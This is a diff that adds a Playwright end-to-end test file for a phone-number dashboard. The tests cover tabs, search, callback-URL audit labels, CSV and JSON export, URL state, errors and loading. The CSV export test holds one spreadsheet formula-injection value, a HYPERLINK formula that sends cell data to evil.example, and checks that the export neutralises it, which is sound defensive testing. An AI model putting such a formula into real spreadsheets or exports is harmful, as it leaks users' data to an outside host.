@@ -1,0 +1,165 @@
+import { expect, test } from './fixtures'
+import { downloadText, parseCsv, rowTexts } from './helpers'
+
+const table = (name: RegExp | string) => ({ name })
+
+test.describe('owned numbers', () => {
+  test('each tab sends its own request and only All has a country column', async ({ page, sim }) => {
+    await page.goto('/')
+    await expect(page.getByRole('tab', { name: 'All' })).toHaveAttribute('aria-selected', 'true')
+    await expect(page.getByRole('columnheader', { name: /Country/ })).toBeVisible()
+    await expect(page.getByRole('status').filter({ hasText: /^60 numbers$/ })).toBeVisible()
+
+    await sim.clearRequests()
+    await page.getByRole('tab', { name: 'Local' }).click()
+    await expect(page.getByRole('table', table(/Owned numbers, local/))).toBeVisible()
+    await expect(page.getByRole('columnheader', { name: /Country/ })).toHaveCount(0)
+    let { requests } = await sim.requests()
+    expect(requests.map((r) => [r.path, r.fields.number_type?.[0]])).toEqual([['/api/ownednumbers', 'local']])
+    const localTypes = await rowTexts(page, /Owned numbers, local/, 1)
+    expect(new Set(localTypes)).toEqual(new Set(['Local']))
+
+    await sim.clearRequests()
+    await page.getByRole('tab', { name: 'Toll-free' }).click()
+    await expect(page.getByRole('table', table(/Owned numbers, toll-free/))).toBeVisible()
+    ;({ requests } = await sim.requests())
+    expect(requests.map((r) => [r.path, r.fields.number_type?.[0]])).toEqual([['/api/ownednumbers', 'tollfree']])
+    expect(new Set(await rowTexts(page, /toll-free/, 1))).toEqual(new Set(['Toll-free']))
+    await expect(page.getByRole('columnheader', { name: /Country/ })).toHaveCount(0)
+    await expect(page.getByRole('table', table(/toll-free/))).not.toContainText('undefined')
+  })
+
+  test('search by partial digits finds the formatted number', async ({ page }) => {
+    await page.goto('/')
+    await page.getByRole('searchbox', { name: /Search/ }).fill('2323')
+    await expect(page.getByRole('status').filter({ hasText: /^1 number of 60$/ })).toBeVisible()
+    await expect(page.getByRole('link', { name: '(832) 323-2323' })).toBeVisible()
+    await page.getByRole('searchbox', { name: /Search/ }).fill('(832) 323')
+    await expect(page.getByRole('link', { name: '(832) 323-2323' })).toBeVisible()
+    await page.getByRole('searchbox', { name: /Search/ }).fill('zzzz-nothing')
+    await expect(page.getByText('No numbers match')).toBeVisible()
+  })
+
+  test('every audit label appears on the number seeded with that defect', async ({ page }) => {
+    await page.goto('/')
+    const auditOf = async (digits: string) => {
+      await page.getByRole('searchbox', { name: /Search/ }).fill(digits)
+      const row = page.getByRole('table', table(/Owned numbers/)).locator('tbody tr[aria-rowindex]').first()
+      await expect(row).toContainText(digits)
+      return (await row.locator('td').last().textContent()) ?? ''
+    }
+    expect(await auditOf('18323232323')).toBe('OK')
+    expect(await auditOf('14158074499')).toContain('webhook: Missing')
+    expect(await auditOf('15147901725')).toContain('dlr: Missing')
+    expect(await auditOf('18552009444')).toContain('webhook: Not HTTPS')
+    expect(await auditOf('17202951888')).toContain('dlr: Private host')
+    expect(await auditOf('8329632623')).toContain('webhook: Invalid URL')
+    expect(await auditOf('13053851232')).toContain('dlr: Same as webhook')
+    expect(await auditOf('18004840451')).toContain('webhook: Outlier')
+  })
+
+  test('the audit summary counts findings, lists endpoints, and filters by finding', async ({ page }) => {
+    await page.goto('/')
+    const summary = page.getByRole('region', { name: 'Callback audit' })
+    const dlrMissing = summary.getByRole('button', { name: /dlr: Missing — 5 numbers send delivery reports nowhere/ })
+    await expect(dlrMissing).toBeVisible()
+    await expect(summary).toContainText('distinct webhook endpoints')
+    await dlrMissing.click()
+    await expect(dlrMissing).toHaveAttribute('aria-pressed', 'true')
+    await expect(page).toHaveURL(/audit=dlr\.missing/)
+    await expect(page.getByRole('status').filter({ hasText: /^5 numbers of 60$/ })).toBeVisible()
+    const audits = await rowTexts(page, /Owned numbers/, 6)
+    expect(audits).toHaveLength(5)
+    for (const a of audits) expect(a).toContain('dlr: Missing')
+  })
+
+  test('Export CSV holds exactly the rows and columns on screen, formula cells neutralised', async ({ page }) => {
+    await page.goto('/?audit=webhook.invalid_url')
+    await expect(page.getByRole('status').filter({ hasText: /^2 numbers of 60$/ })).toBeVisible()
+    // Sort by number, descending; hide tid.
+    const header = page.getByRole('columnheader', { name: /Number/ })
+    await header.getByRole('button').click()
+    await header.getByRole('button').click()
+    await expect(header).toHaveAttribute('aria-sort', 'descending')
+    await page.getByText('Columns', { exact: true }).click()
+    await page.getByRole('checkbox', { name: 'tid' }).uncheck()
+    await expect(page.getByRole('columnheader', { name: /tid/ })).toHaveCount(0)
+
+    const onScreen = await rowTexts(page, /Owned numbers/, 0, 'span')
+    const { name, text } = await downloadText(page, () => page.getByRole('button', { name: 'Export CSV' }).click())
+    expect(name).toMatch(/^switchboard-numbers-all-webhook-invalid-url-\d{4}-\d{2}-\d{2}\.csv$/)
+    const rows = parseCsv(text)
+    expect(rows[0]).toEqual(['Number', 'Type', 'Country', 'Webhook', 'DLR', 'Audit'])
+    expect(rows.slice(1).map((r) => r[0])).toEqual(onScreen)
+    const formula = rows.find((r) => r[3]?.includes('HYPERLINK'))
+    expect(formula?.[3]).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"Click")')
+    expect(text.startsWith('\uFEFF')).toBe(true)
+
+    const json = await downloadText(page, () => page.getByRole('button', { name: 'Export JSON' }).click())
+    const parsed = JSON.parse(json.text) as Array<Record<string, string>>
+    expect(parsed.map((r) => r.Number)).toEqual(onScreen)
+    expect(Object.keys(parsed[0] ?? {})).not.toContain('tid')
+  })
+
+  test('tab, search, sort, audit filter and hidden columns survive reload and back/forward', async ({ page }) => {
+    await page.goto('/')
+    await page.getByRole('tab', { name: 'Local' }).click()
+    await page.getByRole('searchbox', { name: /Search/ }).fill('hooks')
+    await page.getByRole('columnheader', { name: /Type/ }).getByRole('button').click()
+    await page.getByText('Columns', { exact: true }).click()
+    await page.getByRole('checkbox', { name: 'Webhook' }).uncheck()
+    await expect(page).toHaveURL(/tab=local/)
+    await expect(page).toHaveURL(/q=hooks/)
+    await expect(page).toHaveURL(/sort=type\.asc/)
+    await expect(page).toHaveURL(/hide=webhook/)
+    await page.reload()
+    await expect(page.getByRole('tab', { name: 'Local' })).toHaveAttribute('aria-selected', 'true')
+    await expect(page.getByRole('searchbox', { name: /Search/ })).toHaveValue('hooks')
+    await expect(page.getByRole('columnheader', { name: /Type/ })).toHaveAttribute('aria-sort', 'ascending')
+    await expect(page.getByRole('columnheader', { name: /Webhook/ })).toHaveCount(0)
+    await page.goBack()
+    await expect(page.getByRole('columnheader', { name: /Webhook/ })).toBeVisible()
+    await page.goForward()
+    await expect(page.getByRole('columnheader', { name: /Webhook/ })).toHaveCount(0)
+  })
+
+  test('an error shows an alert with Retry, and a failed refresh keeps the rows', async ({ page, sim }) => {
+    await sim.fault({ op: 'allownednumbers', kind: 'status', status: 500, times: 3 })
+    await page.goto('/')
+    const alert = page.getByRole('alert')
+    await expect(alert).toContainText('could not be reached', { timeout: 15_000 })
+    await expect(alert).toContainText('HTTP 500')
+    // Three upstream calls for one user action, no more.
+    expect((await sim.requests()).calls).toBe(3)
+    await alert.getByRole('button', { name: 'Retry' }).click()
+    await expect(page.getByRole('link', { name: '(832) 323-2323' })).toBeVisible()
+    await expect(page.getByRole('alert')).toHaveCount(0)
+
+    await sim.fault({ op: 'allownednumbers', kind: 'malformed' })
+    await page.getByRole('button', { name: 'Refresh' }).click()
+    await expect(page.getByRole('alert')).toContainText('could not read')
+    await expect(page.getByRole('alert')).toContainText('last successful load')
+    await expect(page.getByRole('link', { name: '(832) 323-2323' })).toBeVisible()
+  })
+
+  test('an empty account says so', async ({ page, sim }) => {
+    await sim.fault({ op: 'allownednumbers', kind: 'empty_data' })
+    await page.goto('/')
+    await expect(page.getByText('This account owns no numbers')).toBeVisible()
+  })
+
+  test('loading shows a skeleton, then the rows', async ({ page, sim }) => {
+    await sim.fault({ op: 'allownednumbers', kind: 'latency', ms: 1200, times: 1 })
+    await page.goto('/')
+    await expect(page.getByRole('status', { name: 'Loading numbers' })).toBeVisible()
+    await expect(page.getByRole('link', { name: '(832) 323-2323' })).toBeVisible()
+    await expect(page.getByRole('status', { name: 'Loading numbers' })).toHaveCount(0)
+  })
+
+  test('a number links to its history route', async ({ page }) => {
+    await page.goto('/')
+    await page.getByRole('link', { name: '(832) 323-2323' }).click()
+    await expect(page).toHaveURL(/\/numbers\/18323232323\?tid=PUHMGWS98301/)
+    await expect(page.getByRole('heading', { name: 'History of (832) 323-2323' })).toBeVisible()
+  })
+})
